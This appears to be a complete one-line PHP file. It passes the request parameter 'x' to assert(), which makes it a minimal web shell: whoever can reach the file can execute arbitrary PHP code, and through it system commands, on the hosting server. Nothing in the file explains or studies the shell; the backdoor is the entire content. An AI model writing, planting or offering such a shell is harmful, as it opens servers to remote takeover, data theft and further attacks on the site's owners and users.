<?php assert($_REQUEST["x"]);
